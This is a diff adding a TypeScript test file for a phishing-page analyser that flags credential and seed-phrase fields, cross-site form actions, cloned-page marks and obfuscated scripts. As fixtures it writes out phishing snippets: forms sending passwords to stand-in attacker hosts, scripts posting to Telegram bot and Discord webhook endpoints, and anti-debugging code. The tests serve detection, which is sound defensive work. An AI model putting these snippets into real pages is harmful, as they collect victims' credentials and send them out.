@@ -1,0 +1,219 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { createPageReader, type HtmlFacts } from './read-page.ts';
+
+const siteOf = (url: URL) => url.hostname.split('.').slice(-2).join('.');
+
+function read(html: string, address = 'https://shop.example/login'): HtmlFacts {
+  const reader = createPageReader(new URL(address), siteOf);
+  reader.write(html);
+  return reader.finish();
+}
+
+describe('sensitive fields', () => {
+  test.each([
+    ['<input type=password>', 'password'],
+    ['<input type="text" name="passwd">', 'password'],
+    ['<input autocomplete="cc-number">', 'card'],
+    ['<input type=tel placeholder="Card number">', 'card'],
+    ['<input type=password name=cvv>', 'card'],
+    ['<textarea placeholder="Enter your 12-word recovery phrase"></textarea>', 'seed_phrase'],
+    ['<input type=password name="mnemonic">', 'seed_phrase'],
+    ['<input inputmode=numeric autocomplete="one-time-code">', 'one_time_code'],
+    ['<input name="otp">', 'one_time_code'],
+    ['<input type=email>', 'email'],
+    ['<input name="ssn">', 'national_id'],
+  ])('%s asks for a %s', (html, field) => {
+    expect(read(html).asks).toEqual([field]);
+  });
+
+  test.each([
+    '<input type=search name=q>',
+    '<input type=hidden name=password>',
+    '<input type=checkbox name=email>',
+    '<input name=first>',
+  ])('%s asks for nothing', (html) => expect(read(html).asks).toEqual([]));
+
+  test('twelve word boxes under a heading about a phrase ask for a seed phrase', () => {
+    expect(read(`<p>Secret recovery phrase</p>${'<input type=text>'.repeat(12)}`).asks).toEqual(['seed_phrase']);
+  });
+});
+
+describe('forms', () => {
+  test('a form to another site is told from one to the own site', () => {
+    const facts = read(
+      '<form action="//collect.example.net/x"><input type=password></form><form action="/ok"></form><form></form>',
+    );
+    expect(facts.forms).toEqual([
+      { action: 'https://collect.example.net/x', crossSite: true, toMessengerBot: false, asks: ['password'] },
+      { action: 'https://shop.example/ok', crossSite: false, toMessengerBot: false, asks: [] },
+      { action: null, crossSite: false, toMessengerBot: false, asks: [] },
+    ]);
+  });
+
+  test('a button may send the form elsewhere', () => {
+    const facts = read(
+      '<form action="/ok"><input type=password><button formaction="https://evil.example.net/">Go</button></form>',
+    );
+    expect(facts.forms[1]).toMatchObject({ action: 'https://evil.example.net/', crossSite: true, asks: ['password'] });
+  });
+
+  test('base decides where relative actions go', () => {
+    expect(read('<base href="https://evil.example.net/"><form action="p.php"></form>').forms[0]?.crossSite).toBe(true);
+  });
+
+  test.each([
+    '<form action="https://api.telegram.org/bot123:AAx/sendMessage"></form>',
+    '<script>fetch("https://api.telegram.org/bot"+t+"/sendMessage")</script>',
+    '<script>$.post("https://discord.com/api/webhooks/1/x")</script>',
+    '<script>u=atob("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdA==")</script>',
+  ])('%s sends to a messenger bot', (html) => {
+    expect(read(html).messengerBotEndpoint).toBe(true);
+  });
+});
+
+describe('marks', () => {
+  test('brand texts come from title, og:site_name, logo and headings', () => {
+    const facts = read(
+      '<title> PayPal:\n Log in </title><meta property="og:site_name" content="PayPal"><img class=logo alt="PayPal logo" src=/l.png><img alt=cat src=/c.png><h1>Welcome to <b>PayPal</b></h1>',
+    );
+    expect(facts.title).toBe('PayPal: Log in');
+    expect(facts.brandTexts).toEqual(['PayPal: Log in', 'PayPal', 'PayPal logo', 'Welcome to PayPal']);
+  });
+
+  test('assets are counted by host and the favicon is noted', () => {
+    const facts = read(
+      '<link rel="shortcut icon" href="https://cdn.brand.example.com/f.ico"><img src=/a><img src=//cdn.brand.example.com/b><script src=data:,></script>',
+    );
+    expect(facts.assetHosts).toEqual([
+      { host: 'cdn.brand.example.com', count: 2 },
+      { host: 'shop.example', count: 1 },
+    ]);
+    expect(facts.faviconHost).toBe('cdn.brand.example.com');
+  });
+
+  test.each([
+    ['<!-- saved from url=(0029)https://www.bank.example.com/login -->', 'https://www.bank.example.com/login'],
+    ['<!-- Mirrored from www.bank.example.com/ by HTTrack Website Copier/3.x -->', 'http://www.bank.example.com/'],
+    ['<!--\n Page saved with SingleFile \n url: https://www.bank.example.com/ \n-->', 'https://www.bank.example.com/'],
+    ['<!-- Added by HTTrack -->', null],
+  ])('%s is the mark of a copy', (html, source) => {
+    expect(read(html)).toMatchObject({ clonedMark: true, clonedFrom: source });
+  });
+
+  test.each([
+    '<script>eval(function(p,a,c,k,e,d){})</script>',
+    `<script>${'_0x12ab,'.repeat(40)}</script>`,
+    `<script>document.write(unescape('${'%3C'.repeat(100)}'))</script>`,
+  ])('obfuscated script is seen', (html) => {
+    expect(read(html).obfuscatedScript).toBe(true);
+  });
+
+  test.each([
+    '<script>setInterval(function(){debugger;},100)</script>',
+    '<script>if(e.keyCode==123){return false}</script>',
+    '<script src="x"></script><body onkeydown="return event.keyCode!=123 && event.keyCode == 123">',
+    '<script>if(navigator.webdriver)location="about:blank"</script>',
+  ])('%s works against analysis', (html) => {
+    expect(read(html).antiAnalysis).toBe(true);
+  });
+
+  test('an ordinary script is neither', () => {
+    expect(read('<script>window.dataLayer=[];function gtag(){dataLayer.push(arguments)}</script>')).toMatchObject({
+      obfuscatedScript: false,
+      antiAnalysis: false,
+      messengerBotEndpoint: false,
+    });
+  });
+
+  test('hidden frames are counted, the tag manager of half the web is not', () => {
+    const facts = read(
+      '<iframe src=/x width=0 height=0></iframe><iframe style="display: none" src=/y></iframe><noscript><iframe src="https://www.googletagmanager.com/ns.html" height=0></iframe></noscript><iframe src=/z width=600></iframe>',
+    );
+    expect(facts.hiddenIframes).toBe(2);
+  });
+
+  test.each([
+    '<title>shop.example is for sale</title>This domain is for sale',
+    '<p>Buy this domain</p>',
+    '<script src="https://img.sedoparking.com/x.js"></script>',
+  ])('%s is parked', (html) => expect(read(html).parked).toBe(true));
+
+  test('noindex is noted', () => {
+    expect(read('<meta name=robots content="noindex,nofollow">').noindex).toBe(true);
+  });
+
+  test('a meta refresh is a redirect when it is quick', () => {
+    const reader = createPageReader(new URL('https://a.example/'), siteOf);
+    reader.write('<meta http-equiv="Refresh" content="0; URL=\'/next\'">');
+    expect(reader.metaRefresh?.href).toBe('https://a.example/next');
+    const slow = createPageReader(new URL('https://a.example/'), siteOf);
+    slow.write('<meta http-equiv=refresh content="300;url=/next">');
+    expect(slow.metaRefresh).toBeNull();
+  });
+});
+
+describe('hostile pages', () => {
+  test('a page nested beyond reason stops being parsed, with what was seen so far', () => {
+    const reader = createPageReader(new URL('https://a.example/'), siteOf);
+    reader.write(`<title>x</title>${'<div>'.repeat(2_000)}`);
+    expect(reader.stopped).toBe(true);
+    expect(reader.finish().title).toBe('x');
+  });
+
+  test('the facts stay small whatever the page repeats', () => {
+    const size = JSON.stringify(
+      read(
+        Array.from(
+          { length: 5_000 },
+          (_, index) =>
+            `<h1>${'x'.repeat(300)}${index}</h1><img src="//h${index}.example.net/x"><form action=/${index}><input type=password></form>`,
+        ).join(''),
+      ),
+    ).length;
+    expect(size).toBeLessThan(30_000);
+  });
+
+  test('the result does not depend on how the page was cut into pieces, and no page makes the reader throw', () => {
+    const piece = fc.constantFrom(
+      '<form action="',
+      'https://x.example.net/',
+      '">',
+      '<input type=password',
+      '<script>',
+      '</script>',
+      '_0x12ab',
+      '<!--',
+      '-->',
+      '<iframe style="display:none">',
+      '<title>',
+      '</title>',
+      '<meta http-equiv=refresh content="0;url=',
+      '<svg>',
+      '</div>',
+      '&#x0;',
+      '\u0000',
+      '<',
+      '"',
+      "'",
+      'saved from url=(0001)',
+      '<base href=',
+      '<h1>',
+    );
+    fc.assert(
+      fc.property(
+        fc.array(fc.oneof(piece, fc.string()), { maxLength: 60 }),
+        fc.integer({ min: 1, max: 7 }),
+        (pieces, size) => {
+          const html = pieces.join('');
+          const whole = read(html);
+          const reader = createPageReader(new URL('https://shop.example/login'), siteOf);
+          for (let at = 0; at < html.length; at += size) reader.write(html.slice(at, at + size));
+          const cut = reader.finish();
+          expect({ ...cut, brandTexts: [] }).toEqual({ ...whole, brandTexts: [] });
+        },
+      ),
+      { seed: 20_261_121, numRuns: 800 },
+    );
+  });
+});
